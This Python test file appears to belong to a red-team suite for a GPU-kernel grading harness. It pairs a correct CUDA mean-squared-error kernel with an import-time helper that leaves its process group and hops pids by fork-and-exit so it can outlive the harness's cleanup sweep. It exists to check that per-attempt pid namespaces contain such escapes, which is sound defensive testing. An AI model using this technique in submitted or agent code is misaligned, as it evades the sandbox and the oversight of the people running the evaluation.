"""Exploit: a process that outlives its attempt by changing its pid, on a GPU (tests/test_room.py's
hole 2: the CUDA version of pid_hopper.py).

At import (so in the build child, while the candidate is imported for its build, and again in the
evaluation child) the module forks a helper (a small interpreter of its own, `python -S`) that leaves
the child's process group (setpgid, as hang.py's escaper does; setsid is refused) and then hops: every
HOP_S (3 ms) it forks and the parent exits, and from the moment the child it came from exits (a pidfd
of it turns readable) it hops as fast as it can for BURST_S, while the parent sweeps the child's
session: a pid listed a moment ago is gone by the time it is killed, and the killpg of the child's
group misses it. It names itself (comm, via prctl PR_SET_NAME) `kb` or `ke` (build or evaluation)
plus the first 12 characters of TAG, so the test can look for it from outside (/proc, `ps`), and
stops on its own after LIFE_S (longer than pid_hopper.py's: an nvcc build comes first) so a run where
it escapes cleans up after itself. It prints `KGEN-NOTE hopper ROLE PID PGID` as it starts. The helper
starts before the extension is built, so it hops through the whole nvcc build; it is exec'd at once,
so it holds none of the child's CUDA state. The forward is an honest CUDA kernel (a two-pass
reduction of float4 loads, partial sums in double): right, so a verdict exists (correct, with code
of its own).

Why it should fail: each attempt is a pid namespace of its own; when the attempt ends its init
exits and the kernel kills everything in it, whatever its pid or group, and the parent checks from
outside that nothing is left."""
import ctypes
import os
import sys
import time

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

TAG = "__KGEN_TAG__"
HOP_S = 0.003
LIFE_S = 300.0
BURST_S = 3.0
ROLE = "b" if "build" in sys.argv[1:] else "e"  # the harness runs as `... --result-fd N build|eval`


# The hopper itself: a small interpreter of its own (python -S, no torch), so each fork copies a few
# megabytes, not the candidate's whole process, and a hop takes well under a millisecond.
_HOPPER = r"""
import ctypes, os, select, sys, time
name, hop_s, life_s, burst_s, watch = sys.argv[1].encode(), *map(float, sys.argv[2:5]), int(sys.argv[5])
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.prctl(15, ctypes.c_char_p(name), 0, 0, 0)  # PR_SET_NAME
try:
    os.setpgid(0, 0)  # out of the child's process group (setsid is refused)
except OSError:
    pass
pidfd = libc.syscall(434, watch, 0)  # pidfd_open(the child): readable once it has exited
end = time.monotonic() + life_s
burst_until = None
while time.monotonic() < end:
    if burst_until is None:
        if pidfd >= 0:
            if select.select([pidfd], [], [], hop_s)[0]:
                burst_until = time.monotonic() + burst_s  # the child is gone: its sweep starts now
        else:
            time.sleep(hop_s)
    elif time.monotonic() > burst_until:
        time.sleep(hop_s)
    try:
        if os.fork() > 0:
            os._exit(0)  # the parent exits: the pid just listed is gone
    except OSError:
        pass
os._exit(0)
"""


def _start(name: str) -> int:
    child = os.getpid()
    pid = os.fork()
    if pid == 0:
        try:
            for fd in range(3, 1024):  # hold none of the child's pipes open
                try:
                    os.close(fd)
                except OSError:
                    pass
            os.execv(sys.executable, [sys.executable, "-S", "-c", _HOPPER, name, str(HOP_S), str(LIFE_S), str(BURST_S),
                                       str(child)])
        finally:
            os._exit(0)
    return pid


_pid = _start(f"k{ROLE}{TAG[:12]}")
print(f"KGEN-NOTE hopper {ROLE} {_pid} {os.getpgid(0)}", flush=True)


_DECLS = "torch::Tensor mse(torch::Tensor predictions, torch::Tensor targets);"

_CUDA = r"""
#include <torch/extension.h>
#include <ATen/cuda/CUDAContext.h>
#include <c10/cuda/CUDAException.h>
#include <cuda_runtime.h>
#include <algorithm>

__device__ __forceinline__ double warp_sum(double v) {
    for (int o = 16; o > 0; o >>= 1) v += __shfl_down_sync(0xffffffff, v, o);
    return v;
}

__device__ __forceinline__ double block_sum(double v) {
    __shared__ double sums[32];
    int lane = threadIdx.x & 31, warp = threadIdx.x >> 5;
    v = warp_sum(v);
    if (lane == 0) sums[warp] = v;
    __syncthreads();
    v = (threadIdx.x < (blockDim.x + 31) / 32) ? sums[lane] : 0.0;
    if (warp == 0) v = warp_sum(v);
    return v;
}

__global__ void sq_diff_partial(const float* __restrict__ a, const float* __restrict__ b, long long n, bool aligned,
                                double* __restrict__ partial) {
    double acc = 0.0;
    const long long tid = blockIdx.x * (long long)blockDim.x + threadIdx.x;
    const long long stride = (long long)gridDim.x * blockDim.x;
    const long long n4 = aligned ? n / 4 : 0;
    const float4* a4 = reinterpret_cast<const float4*>(a);
    const float4* b4 = reinterpret_cast<const float4*>(b);
    for (long long i = tid; i < n4; i += stride) {
        const float4 x = __ldg(a4 + i), y = __ldg(b4 + i);
        const float d0 = x.x - y.x, d1 = x.y - y.y, d2 = x.z - y.z, d3 = x.w - y.w;
        acc += (double)(d0 * d0 + d1 * d1) + (double)(d2 * d2 + d3 * d3);
    }
    for (long long i = n4 * 4 + tid; i < n; i += stride) {
        const float d = a[i] - b[i];
        acc += (double)d * d;
    }
    acc = block_sum(acc);
    if (threadIdx.x == 0) partial[blockIdx.x] = acc;
}

__global__ void finish(const double* __restrict__ partial, int count, double scale, float* __restrict__ out) {
    double acc = 0.0;
    for (int i = threadIdx.x; i < count; i += blockDim.x) acc += partial[i];
    acc = block_sum(acc);
    if (threadIdx.x == 0) out[0] = (float)(acc * scale);
}

torch::Tensor mse(torch::Tensor predictions, torch::Tensor targets) {
    TORCH_CHECK(predictions.is_cuda() && targets.is_cuda(), "inputs must be CUDA tensors");
    TORCH_CHECK(predictions.sizes() == targets.sizes(), "shape mismatch");
    TORCH_CHECK(predictions.scalar_type() == at::kFloat && targets.scalar_type() == at::kFloat, "float32 only");
    auto a = predictions.contiguous();
    auto b = targets.contiguous();
    const long long n = a.numel();
    const float* pa = a.data_ptr<float>();
    const float* pb = b.data_ptr<float>();
    const bool aligned = ((reinterpret_cast<uintptr_t>(pa) | reinterpret_cast<uintptr_t>(pb)) % 16) == 0;
    const int threads = 256;
    const int sms = at::cuda::getCurrentDeviceProperties()->multiProcessorCount;
    const long long blocks = std::max(1LL, std::min<long long>(sms * 8LL, (n / 4 + threads - 1) / threads));
    auto partial = torch::empty({blocks}, a.options().dtype(at::kDouble));
    auto out = torch::empty({}, a.options());
    cudaStream_t stream = at::cuda::getCurrentCUDAStream();
    sq_diff_partial<<<blocks, threads, 0, stream>>>(pa, pb, n, aligned, partial.data_ptr<double>());
    C10_CUDA_KERNEL_LAUNCH_CHECK();
    finish<<<1, 1024, 0, stream>>>(partial.data_ptr<double>(), (int)blocks, n ? 1.0 / (double)n : 0.0,
                                   out.data_ptr<float>());
    C10_CUDA_KERNEL_LAUNCH_CHECK();
    return out;
}
"""

_ext = load_inline(name="kgen_redteam_pid_hopper_cuda", cpp_sources=_DECLS, cuda_sources=_CUDA, functions=["mse"],
                   extra_cuda_cflags=["-O3"], verbose=False)


class ModelNew(nn.Module):
    def forward(self, predictions, targets):
        return _ext.mse(predictions, targets)
